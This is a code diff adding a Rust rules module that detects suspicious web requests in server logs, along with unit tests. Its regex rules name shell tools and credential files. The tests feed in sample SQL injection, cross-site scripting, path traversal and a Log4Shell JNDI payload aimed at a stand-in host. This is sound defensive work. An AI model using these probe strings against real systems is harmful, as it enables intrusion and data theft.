@@ -1,1 +1,344 @@
-//! TODO
+//! Rules for known-suspicious requests: the shipped set plus user rules from `[[rules.custom]]`.
+//! Paths and queries are percent-decoded once before matching, so `%2e%2e%2f` is `../`.
+
+use std::borrow::Cow;
+
+use regex::Regex;
+
+use crate::config::{RulesConfig, Severity, UserRule};
+use crate::parse::LogEvent;
+
+/// Which part of the event a rule looks at.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum RuleField {
+    Path,
+    Query,
+    Target,
+    UserAgent,
+    Method,
+    Client,
+    Status,
+    Line,
+}
+
+impl RuleField {
+    fn parse(s: &str) -> Option<RuleField> {
+        Some(match s {
+            "path" => RuleField::Path,
+            "query" => RuleField::Query,
+            "target" => RuleField::Target,
+            "user_agent" => RuleField::UserAgent,
+            "method" => RuleField::Method,
+            "client" => RuleField::Client,
+            "status" => RuleField::Status,
+            "line" => RuleField::Line,
+            _ => return None,
+        })
+    }
+}
+
+/// One compiled rule.
+#[derive(Debug, Clone)]
+pub struct Rule {
+    pub name: String,
+    pub field: RuleField,
+    pub pattern: Regex,
+    pub severity: Severity,
+    pub description: String,
+}
+
+/// A rule that matched, with the value it matched.
+#[derive(Debug, Clone)]
+pub struct RuleMatch {
+    pub name: String,
+    pub severity: Severity,
+    pub reason: String,
+}
+
+/// The shipped rules: (name, field, pattern, severity, description).
+pub const BUILTIN: &[(&str, &str, &str, Severity, &str)] = &[
+    (
+        "path_traversal",
+        "target",
+        r"(?i)(\.\./|\.\.\\|/etc/(passwd|shadow|hosts)|/proc/self/|c:\\windows|boot\.ini|win\.ini)",
+        Severity::High,
+        "path traversal attempt in {value}",
+    ),
+    (
+        "sql_injection",
+        "target",
+        r"(?i)('|\x22)\s*(or|and)\s*('|\x22|\d)|union(\s|\+|/\*.*\*/)+(all(\s|\+)+)?select|;\s*(drop|delete|insert|update)\s|sleep\(\s*\d+\s*\)|benchmark\(|waitfor\s+delay|information_schema|'\s*--|\bor\s+1\s*=\s*1\b",
+        Severity::High,
+        "SQL injection probe in {value}",
+    ),
+    (
+        "xss",
+        "target",
+        r"(?i)<\s*script|javascript:|\bon(error|load|mouseover|focus)\s*=|<\s*(img|svg|iframe)[^>]*>|alert\(|document\.cookie",
+        Severity::High,
+        "cross-site scripting probe in {value}",
+    ),
+    (
+        "command_injection",
+        "target",
+        r"(?i)(;|\||&&)\s*(cat|ls|id|whoami|uname|wget|curl|bash|sh|nc)\b|\$\([^)]*\)|`[^`]*`",
+        Severity::High,
+        "command injection probe in {value}",
+    ),
+    ("log4shell", "line", r"(?i)\$\{\s*jndi\s*:", Severity::Critical, "JNDI lookup (Log4Shell) payload in the request"),
+    (
+        "scanner_user_agent",
+        "user_agent",
+        r"(?i)sqlmap|nikto|nmap|masscan|zgrab|nuclei|dirbuster|gobuster|feroxbuster|ffuf|wpscan|acunetix|nessus|openvas|w3af|whatweb|jaeles|httpx|zmeu|morfeus|hydra",
+        Severity::Medium,
+        "scanner user agent {value}",
+    ),
+    (
+        "sensitive_file_probe",
+        "path",
+        r"(?i)/\.(env|git|svn|hg|bzr|htaccess|htpasswd|ds_store|aws|ssh|docker|npmrc|bash_history)(/|$|\.)|/(wp-login\.php|wp-admin|wp-config|xmlrpc\.php|wp-content/plugins|phpmyadmin|pma|myadmin|adminer(\.php)?|server-status|actuator|jmx-console|manager/html|solr/admin|boaform|hnap1|cgi-bin|vendor/phpunit|phpinfo\.php|shell\.php|cmd\.php|eval-stdin\.php|telescope|_ignition|owa/auth|remote/login)(/|$|\?|\.)|\.(bak|old|orig|swp|sql|sqlite|tar|tgz|tar\.gz|zip|7z|rar|pem|key)$|/(backup|dump|database|db|config|configuration|settings|credentials|secrets)\.(php|yml|yaml|json|xml|ini|conf|txt|sql|zip)$",
+        Severity::Medium,
+        "probe for a sensitive file: {value}",
+    ),
+    (
+        "unusual_method",
+        "method",
+        r"^(TRACE|TRACK|CONNECT|PROPFIND|PROPPATCH|MKCOL|DEBUG|SEARCH)$",
+        Severity::Low,
+        "unusual HTTP method {value}",
+    ),
+];
+
+/// The compiled rule set.
+#[derive(Debug, Clone, Default)]
+pub struct Rules {
+    rules: Vec<Rule>,
+}
+
+fn compile(r: &UserRule) -> Rule {
+    Rule {
+        name: r.name.clone(),
+        field: RuleField::parse(&r.field).unwrap_or(RuleField::Line),
+        // Validated at start-up.
+        pattern: Regex::new(&r.pattern).expect("rule patterns are validated at start-up"),
+        severity: r.severity,
+        description: if r.description.is_empty() {
+            format!("matched rule {}: {{value}}", r.name)
+        } else {
+            r.description.clone()
+        },
+    }
+}
+
+/// Decode `%XX` escapes (and `+` in queries) once; invalid escapes stay as they are.
+pub fn percent_decode(s: &str, plus_is_space: bool) -> Cow<'_, str> {
+    if !s.contains('%') && !(plus_is_space && s.contains('+')) {
+        return Cow::Borrowed(s);
+    }
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b'%' if i + 2 < b.len() => {
+                let hex = |c: u8| (c as char).to_digit(16);
+                match (hex(b[i + 1]), hex(b[i + 2])) {
+                    (Some(h), Some(l)) => {
+                        out.push((h * 16 + l) as u8);
+                        i += 3;
+                        continue;
+                    }
+                    _ => out.push(b'%'),
+                }
+            }
+            b'+' if plus_is_space => out.push(b' '),
+            c => out.push(c),
+        }
+        i += 1;
+    }
+    Cow::Owned(String::from_utf8_lossy(&out).into_owned())
+}
+
+impl Rules {
+    /// Build from validated config.
+    pub fn new(cfg: &RulesConfig) -> Rules {
+        let mut rules = Vec::new();
+        if cfg.builtin {
+            for (name, field, pattern, severity, description) in BUILTIN {
+                if cfg.disabled.iter().any(|d| d == name) {
+                    continue;
+                }
+                rules.push(compile(&UserRule {
+                    name: (*name).into(),
+                    field: (*field).into(),
+                    pattern: (*pattern).into(),
+                    severity: *severity,
+                    description: (*description).into(),
+                }));
+            }
+        }
+        rules.extend(cfg.custom.iter().map(compile));
+        Rules { rules }
+    }
+
+    pub fn len(&self) -> usize {
+        self.rules.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+    }
+
+    /// Every rule the event matches.
+    pub fn check(&self, e: &LogEvent) -> Vec<RuleMatch> {
+        if self.rules.is_empty() {
+            return Vec::new();
+        }
+        let path = e.path.as_deref().map(|p| percent_decode(p, false));
+        let query = e.query.as_deref().map(|q| percent_decode(q, true));
+        let status = e.status.map(|s| s.to_string());
+        let mut out = Vec::new();
+        for r in &self.rules {
+            let target;
+            let value: Option<&str> = match r.field {
+                RuleField::Path => path.as_deref(),
+                RuleField::Query => query.as_deref(),
+                RuleField::Target => {
+                    target = match (&path, &query) {
+                        (Some(p), Some(q)) => Some(format!("{p}?{q}")),
+                        (Some(p), None) => Some(p.to_string()),
+                        (None, Some(q)) => Some(format!("?{q}")),
+                        (None, None) => None,
+                    };
+                    target.as_deref()
+                }
+                RuleField::UserAgent => e.user_agent.as_deref(),
+                RuleField::Method => e.method.as_deref(),
+                RuleField::Client => e.client.as_deref(),
+                RuleField::Status => status.as_deref(),
+                RuleField::Line => Some(e.raw.line.as_str()),
+            };
+            let Some(v) = value else { continue };
+            if r.pattern.is_match(v) {
+                out.push(RuleMatch {
+                    name: r.name.clone(),
+                    severity: r.severity,
+                    reason: r.description.replace("{value}", &shorten(v, 120)),
+                });
+            }
+        }
+        out
+    }
+}
+
+/// At most `max` characters, with an ellipsis when cut.
+pub fn shorten(s: &str, max: usize) -> String {
+    if s.chars().count() <= max {
+        return s.to_string();
+    }
+    let mut out: String = s.chars().take(max).collect();
+    out.push('…');
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::RulesConfig;
+    use crate::source::RawLine;
+
+    fn req(method: &str, target: &str, ua: &str) -> LogEvent {
+        let (path, query) = match target.split_once('?') {
+            Some((p, q)) => (p.to_string(), Some(q.to_string())),
+            None => (target.to_string(), None),
+        };
+        LogEvent {
+            time: jiff::Timestamp::UNIX_EPOCH,
+            format: crate::parse::Format::Json,
+            method: Some(method.into()),
+            path: Some(path),
+            query,
+            endpoint: format!("{method} x"),
+            status: Some(404),
+            response_time_ms: Some(3.0),
+            bytes: Some(10),
+            client: Some("203.0.113.9".into()),
+            user_agent: Some(ua.into()),
+            level: None,
+            message: None,
+            raw: RawLine::new(jiff::Timestamp::UNIX_EPOCH, format!("{method} {target} {ua}"), 1),
+            problem: None,
+        }
+    }
+
+    fn names(rules: &Rules, e: &LogEvent) -> Vec<String> {
+        rules.check(e).into_iter().map(|m| m.name).collect()
+    }
+
+    #[test]
+    fn shipped_rules_catch_common_probes() {
+        let r = Rules::new(&RulesConfig::default());
+        let ua = "Mozilla/5.0";
+        assert_eq!(names(&r, &req("GET", "/static/../../etc/passwd", ua)), ["path_traversal"]);
+        assert_eq!(names(&r, &req("GET", "/files/%2e%2e%2f%2e%2e%2fetc%2fpasswd", ua)), ["path_traversal"]);
+        assert!(names(&r, &req("GET", "/api/products?id=1'%20OR%20'1'='1", ua)).contains(&"sql_injection".into()));
+        assert!(names(&r, &req("GET", "/search?q=1+UNION+SELECT+password+FROM+users", ua))
+            .contains(&"sql_injection".into()));
+        assert!(names(&r, &req("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ua)).contains(&"xss".into()));
+        assert_eq!(names(&r, &req("GET", "/.env", ua)), ["sensitive_file_probe"]);
+        assert_eq!(names(&r, &req("GET", "/.git/config", ua)), ["sensitive_file_probe"]);
+        assert_eq!(names(&r, &req("POST", "/wp-login.php", ua)), ["sensitive_file_probe"]);
+        assert_eq!(names(&r, &req("GET", "/backup.sql", ua)), ["sensitive_file_probe"]);
+        assert_eq!(
+            names(&r, &req("GET", "/api/users", "sqlmap/1.7.2#stable (https://sqlmap.org)")),
+            ["scanner_user_agent"]
+        );
+        assert_eq!(names(&r, &req("GET", "/x?q=${jndi:ldap://evil/a}", ua)), ["log4shell"]);
+        assert_eq!(names(&r, &req("TRACE", "/", ua)), ["unusual_method"]);
+    }
+
+    #[test]
+    fn ordinary_requests_match_nothing() {
+        let r = Rules::new(&RulesConfig::default());
+        for (m, t, ua) in [
+            ("GET", "/api/users?page=2&sort=name", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0"),
+            ("GET", "/api/search?q=red+shoes+size+42", "ShopApp/4.2 (iOS 17.1)"),
+            ("POST", "/api/orders", "python-requests/2.31.0"),
+            ("GET", "/healthz", "kube-probe/1.29"),
+            ("GET", "/static/app.js", "curl/8.4.0"),
+            ("GET", "/api/products/123", "Prometheus/2.45.0"),
+            ("GET", "/api/search?q=o'reilly+books", "Mozilla/5.0"),
+            ("GET", "/api/users?email=ann%40example.com", "Mozilla/5.0"),
+        ] {
+            assert!(names(&r, &req(m, t, ua)).is_empty(), "{m} {t} {ua}: {:?}", names(&r, &req(m, t, ua)));
+        }
+    }
+
+    #[test]
+    fn user_rules_and_disabling_work() {
+        let cfg = RulesConfig {
+            builtin: true,
+            disabled: vec!["scanner_user_agent".into()],
+            custom: vec![UserRule {
+                name: "admin".into(),
+                field: "path".into(),
+                pattern: "^/admin".into(),
+                severity: Severity::High,
+                description: "admin path {value}".into(),
+            }],
+        };
+        let r = Rules::new(&cfg);
+        let m = r.check(&req("GET", "/admin/users", "nikto"));
+        assert_eq!(m.len(), 1);
+        assert_eq!(m[0].name, "admin");
+        assert_eq!(m[0].reason, "admin path /admin/users");
+        assert_eq!(m[0].severity, Severity::High);
+    }
+
+    #[test]
+    fn percent_decoding_is_lenient() {
+        assert_eq!(percent_decode("%2e%2E/%zz%", false), "../%zz%");
+        assert_eq!(percent_decode("a+b", true), "a b");
+        assert_eq!(percent_decode("%ff", false), "\u{fffd}");
+    }
+}
